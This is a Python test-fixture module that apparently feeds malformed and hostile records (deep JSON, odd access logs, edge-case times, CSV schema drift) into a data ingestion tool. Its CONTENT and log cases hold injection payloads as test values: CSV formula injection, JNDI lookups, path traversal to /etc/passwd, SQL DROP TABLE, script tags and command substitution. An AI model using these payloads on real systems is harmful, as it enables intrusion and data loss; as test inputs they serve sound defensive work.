"""Records that are well formed and odd, or nearly well formed: JSON, access logs, times, schema."""

from __future__ import annotations

import datetime as dt
import json

from driftline.sources import Field
from hostile.case import Case, csv, ndjson

UTC = dt.timezone.utc


def nested(levels: int) -> bytes:
    """A line of that many levels, its own object being the first."""
    return b'{"id":1,"z":' + b"[" * (levels - 1) + b"]" * (levels - 1) + b"}\n"


def many_keys() -> bytes:
    """200,000 distinct keys in 2,000 lines."""
    lines = ({"id": n} | {f"k{n}_{k}": k for k in range(100)} for n in range(2_000))
    return "".join(json.dumps(line) + "\n" for line in lines).encode()


def wide_line() -> bytes:
    return json.dumps({"id": 1} | {f"k{k:05}": k for k in range(50_000)}).encode()


JSON = [
    ndjson(
        "JSON cut off", b'{"id":1,"s":"a"}\n{"id":2,"s":"b', accepted=1, reasons={"malformed": 1}
    ),
    ndjson("key twice", b'{"id":1,"s":"a","id":2}\n', accepted=1, values=((2, "a"),)),
    ndjson("depth 200", nested(200), accepted=1),
    ndjson("depth 201", nested(201), reasons={"malformed": 1}),
    ndjson("depth 10,000", nested(10_000), reasons={"malformed": 1}),
    ndjson("depth 400,000", nested(400_000), reasons={"malformed": 1}),
    ndjson(
        "depth 10,000 of objects",
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        reasons={"malformed": 1},
    ),
    ndjson(
        "depth beyond a layout's",
        b'{"id":1,"z":[]}\n{"id":2}\n',
        options={"max_depth": 1},
        accepted=1,
        reasons={"malformed": 1},
    ),
    ndjson("1e400 as a number", b'{"id":1e400}\n', reasons={"bad_value": 1}),
    ndjson("1e400 as a text", b'{"s":1e400}\n', accepted=1, values=((None, "1e400"),)),
    ndjson("1e400 unknown", b'{"id":1,"z":1e400}\n', accepted=1),
    ndjson("NaN", b'{"id":NaN}\n{"z":Infinity}\n{"z":-Infinity}\n', reasons={"malformed": 3}),
    ndjson("a key of Spark's", b'{"id":1,"_corrupt_record":"x"}\n', accepted=1),
    ndjson("keys of the table", b'{"id":1,"_offset":7,"_rescued":"x","_delivery":1}\n', accepted=1),
    ndjson("key of nothing", b'{"id":1,"":2}\n', accepted=1),
    ndjson("keys in other case", b'{"ID":1,"S":"x"}\n', accepted=1, values=((None, None),)),
    ndjson(
        "key with dots",
        b'{"a.b":1,"a":{"b":2}}\n',
        fields=(Field("ab", "long", "a.b"),),
        accepted=1,
        values=((1,),),
    ),
    ndjson("array at the top", b'[{"id":1}]\n[]\n', reasons={"malformed": 2}),
    ndjson("scalar at the top", b'5\n"x"\nnull\ntrue\n', reasons={"malformed": 4}),
    ndjson("empty object", b"{}\n{ }\n", accepted=2, values=((None, None), (None, None))),
    ndjson("huge integer", b'{"id":1' + b"0" * 30 + b"}\n", reasons={"bad_value": 1}),
    ndjson("integer of 5,000 digits", b'{"id":' + b"1" * 5_000 + b"}\n", reasons={"bad_value": 1}),
    ndjson(
        "edge of int64",
        b'{"id":9223372036854775807}\n{"id":9223372036854775808}\n{"id":-9223372036854775808}\n',
        accepted=2,
        reasons={"bad_value": 1},
        values=((2**63 - 1, None), (-(2**63), None)),
    ),
    ndjson(
        "half a surrogate pair", b'{"s":"\\ud800"}\n{"z":"\\udc00"}\n', reasons={"malformed": 2}
    ),
    ndjson("a pair", b'{"s":"\\ud83d\\ude00"}\n', accepted=1, values=((None, "😀"),)),
    ndjson("quotes of Python", b"{'id': 1}\n{id: 1}\n", reasons={"malformed": 2}),
    ndjson("comma at the end", b'{"id":1,}\n{"id":1},\n', reasons={"malformed": 2}),
    ndjson(
        "two objects a line", b'{"id":1}{"id":2}\n{"id":1} {"id":2}\n', reasons={"malformed": 2}
    ),
    ndjson("object over lines", b'{\n "id": 1\n}\n', reasons={"malformed": 3}),
    ndjson("objects cut over lines", b'{"id":1},{"id"\n:2},{"id":3}\n', reasons={"malformed": 2}),
    ndjson("comment", b'{"id":1} // x\n#\n', reasons={"malformed": 2}),
    ndjson("200,000 keys", many_keys, accepted=2_000),
    ndjson("50,000 keys a line", wide_line, accepted=1),
    ndjson(
        "int, then string, then struct",
        b'{"id":1}\n{"id":"2"}\n{"id":{"x":3}}\n',
        accepted=2,
        reasons={"bad_value": 1},
        values=((1, None), (2, None)),
    ),
    ndjson(
        "int, string and struct as text",
        b'{"s":1}\n{"s":"2"}\n{"s":{"x":3}}\n',
        accepted=3,
        values=((None, "1"), (None, "2"), (None, '{"x":3}')),
    ),
]

NGINX = (
    Field("ip", "string", "remote_addr"),
    Field("at", "timestamp", "time_iso8601"),
    Field("status", "long"),
    Field("agent", "string", "http_user_agent"),
)
NGINX_LINE = (
    b'{"remote_addr":"10.0.0.1","time_iso8601":"2024-05-17T12:05:03+02:00","status":"200",'
    b'"http_user_agent":"%s"}\n'
)
COMMON = tuple(
    Field(name, kind)  # type: ignore[arg-type]
    for name, kind in (
        *(("host", "string"), ("time", "timestamp"), ("path", "string"), ("status", "long")),
        *(("bytes", "long"), ("agent", "string")),
    )
)
TIME = b"[17/May/2015:12:05:03 +0200]"
AT = dt.datetime(2015, 5, 17, 10, 5, 3, tzinfo=UTC)


def log(name: str, content: bytes, accepted: int = 0, **rest: object) -> Case:
    content = content.replace(b"[t]", TIME)
    return Case(name, {"access.log": content}, "access_log", COMMON, accepted=accepted, **rest)  # type: ignore[arg-type]


LOGS = [
    ndjson(
        "nginx JSON",
        NGINX_LINE % b'say \\"hi\\" \\u001b',
        fields=NGINX,
        accepted=1,
        values=(
            ("10.0.0.1", dt.datetime(2024, 5, 17, 10, 5, 3, tzinfo=UTC), 200, 'say "hi" \x1b'),
        ),
    ),
    ndjson(
        "nginx JSON, escaped for logs",
        NGINX_LINE % b"\\x22",
        fields=NGINX,
        reasons={"malformed": 1},
    ),
    log(
        "log of three kinds",
        b'h - - [t] "GET /a HTTP/1.1" 200 5\nh - ann [t] "GET /b HTTP/1.1" 200 - "-" "x"\n'
        b'v:80 h - - [t] "GET / HTTP/1.1" 200 5 "-" "x"\n',
        2,
        reasons={"malformed": 1},
        values=(("h", AT, "/a", 200, 5, None), ("h", AT, "/b", 200, None, "x")),
    ),
    log(
        "IPv6", b'::1 - - [t] "GET / HTTP/1.1" 200 5\n', 1, values=(("::1", AT, "/", 200, 5, None),)
    ),
    log(
        "request timed out",
        b'h - - [t] "-" 408 - "-" "-"\n',
        1,
        values=(("h", AT, None, 408, None, None),),
    ),
    log("TLS on a plain port", b'h - - [t] "\\x16\\x03\\x01" 400 0\n', 1),
    log("raw bytes of TLS", b'h - - [t] "\x16\x03\x01\xfe" 400 0\n', reasons={"encoding": 1}),
    log(
        "quotes in an agent",
        b'h - - [t] "GET / HTTP/1.1" 200 5 "-" "\\"x\\" \\\\"\n',
        1,
        values=(("h", AT, "/", 200, 5, '"x" \\'),),
    ),
    log(
        "quotes not escaped",
        b'h - - [t] "GET / HTTP/1.1" 200 5 "-" "a "b" c"\n',
        reasons={"malformed": 1},
    ),
    log(
        "log line cut off", b'h - - [t] "GET / HTTP/1.1" 200 5 "-" "Mozi', reasons={"malformed": 1}
    ),
    log(
        "user with a space", b'h - john doe [t] "GET / HTTP/1.1" 200 5\n', reasons={"malformed": 1}
    ),
    log(
        "log of no such day",
        b'h - - [30/Feb/2015:12:05:03 +0200] "GET / HTTP/1.1" 200 5\n',
        reasons={"bad_value": 1},
    ),
    log(
        "log of no size",
        b'h - - [t] "GET / HTTP/1.1" 200 99999999999999999999\n',
        reasons={"bad_value": 1},
    ),
    log(
        "JNDI in an agent",
        b'h - - [t] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://x/a}"\n',
        1,
        values=(("h", AT, "/", 200, 5, "${jndi:ldap://x/a}"),),
    ),
    log(
        "path that climbs",
        b'h - - [t] "GET /../../etc/passwd%00 HTTP/1.1" 404 5\n',
        1,
        values=(("h", AT, "/../../etc/passwd%00", 404, 5, None),),
    ),
    log(
        "escapes of a terminal",
        b'h - - [t] "GET /\x1b[2J HTTP/1.1" 404 5\n',
        1,
        values=(("h", AT, "/\x1b[2J", 404, 5, None),),
    ),
]


def times(
    name: str, *texts: str, format: str | None = None, at: tuple[str, ...] = (), bad: int = 0
) -> Case:
    """Times in a CSV file: those that are accepted, in ISO-8601 and UTC, and how many are not."""
    content = "at\n" + "".join(text + "\n" for text in texts)
    values = tuple((dt.datetime.fromisoformat(each).replace(tzinfo=UTC),) for each in at)
    return csv(
        name,
        content.encode(),
        fields=(Field("at", "timestamp", format=format),),
        accepted=len(at),
        reasons={"bad_value": bad} if bad else {},
        values=values,
    )


TIMES = [
    times(
        "seconds",
        "1431857103",
        "1431857103.5",
        format="epoch_s",
        at=("2015-05-17T10:05:03", "2015-05-17T10:05:03.500000"),
    ),
    times("milliseconds", "1431857103123", format="epoch_ms", at=("2015-05-17T10:05:03.123000",)),
    times(
        "microseconds", "1431857103123456", format="epoch_us", at=("2015-05-17T10:05:03.123456",)
    ),
    times("milliseconds as seconds", "1431857103123", format="epoch_s", bad=1),
    times("no zone", "2015-05-17 10:05:03", at=("2015-05-17T10:05:03",)),
    times(
        "hour that a clock leaves out",
        "2021-03-28T02:30:00",
        "2021-09-26T02:30:00",
        at=("2021-03-28T02:30:00", "2021-09-26T02:30:00"),
    ),
    times(
        "hour that a clock has twice",
        "2021-10-31T02:30:00+02:00",
        "2021-10-31T02:30:00+01:00",
        at=("2021-10-31T00:30:00", "2021-10-31T01:30:00"),
    ),
    times(
        "year 9999",
        "9999-12-31T23:59:59.999999Z",
        "9999-12-31T23:59:59-00:01",
        at=("9999-12-31T23:59:59.999999",),
        bad=1,
    ),
    times("year 10000", "10000-01-01T00:00:00Z", "+10000-01-01", bad=2),
    times("year 0000", "0000-01-01T00:00:00Z", bad=1),
    times("before 1970", "1969-12-31T23:59:59.999999Z", at=("1969-12-31T23:59:59.999999",)),
    times("leap second", "2016-12-31T23:59:60Z", bad=1),
    times("far future", "2999-01-01", at=("2999-01-01",)),
    times("no such day", "2015-02-30", "2015-02-29", "2015-04-31", "2015-13-01", bad=4),
    times(
        "leap day", "2016-02-29", "2000-02-29", "1900-02-29", at=("2016-02-29", "2000-02-29"), bad=1
    ),
    times("other orders", "17.05.2015", "05/17/2015", "May 17 2015", "20150517", "2015-5-7", bad=5),
    times("24 o'clock", "2015-05-17T24:00:00", bad=1),
    times("digits of other scripts", "２０１５-05-17", bad=1),
]

SCHEMA = [
    csv("new column", b"id,s,z\n1,a,x\n", accepted=1, values=((1, "a"),)),
    csv("lost column", b"id\n1\n2\n", accepted=2, values=((1, None), (2, None))),
    csv("renamed column", b"id,text\n1,a\n", accepted=1, values=((1, None),)),
    csv("no known column", b"a,b\n1,2\n", fault="header"),
    csv("other order", b"s,id\na,1\n", accepted=1, values=((1, "a"),)),
    csv("column twice", b"id,s,id\n1,a,2\n", accepted=1, values=((1, "a"),)),
    csv("space before a quote", b'"id", "s"\n', fault="header"),
    csv("header in the middle", b"id,s\n1,a\nid,s\n2,b\n", accepted=2, reasons={"bad_value": 1}),
    csv("header missing", b"1,a\n2,b\n", fault="header"),
    csv("tabs for commas", b"id\ts\n1\ta\n", fault="header"),
    csv("commas at the end", b"id,s\n1,a,,,\n", accepted=1, values=((1, "a"),)),
    csv("fields too many or few", b"id,s\n1,a,b\n1\n", reasons={"field_count": 2}),
    csv(
        "long as decimal",
        b"id,s\n17850.0,a\n17850.5,b\n1e3,c\n",
        accepted=2,
        reasons={"bad_value": 1},
        values=((17_850, "a"), (1_000, "c")),
    ),
    csv("words for nothing", b"id,s\nNULL,NA\nNone,\n-,x\n", reasons={"bad_value": 3}),
    csv("numbers of people", b'id,s\n"1,000",a\n1 000,b\n$5,c\n5%,d\n', reasons={"bad_value": 4}),
    csv(
        "not finite",
        b"d\nNaN\ninf\n-Infinity\n1e999\n",
        fields=(Field("d", "double"),),
        reasons={"bad_value": 4},
    ),
]

CONTENT = [
    csv(name, f"id,s\n1,{text}\n".encode(), accepted=1, values=((1, text),))
    for name, text in (
        ("formula", "=cmd|' /C calc'!A0"),
        ("formula with at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("formula with plus", "+1+1"),
        ("terminal colours", "\x1b[31mred\x1b[0m\x1b]0;title\x07"),
        ("JNDI", "${jndi:ldap://example.invalid/a}"),
        ("template", "{{7*7}} ${7*7} <%= 7*7 %> %s %n %(x)s"),
        ("path that climbs, as a value", "../../../../etc/passwd"),
        ("SQL", "'; DROP TABLE bronze.orders; --"),
        ("HTML", "<script>alert('x')</script><img src=x onerror=alert(1)>"),
        ("backslashes", r"a\nb\x00\u0000\\"),
        ("right to left", "\u202egnp.exe"),
        ("zero width", "a\u200bb\ufeffc"),
        ("combining characters", "Z͑ͫ̓a" * 50),
        ("beyond the first plane", "😀𝒳\U0010ffff"),
        ("backticks", "`id`, $(id)".replace(",", ";")),
    )
]  # fmt: skip
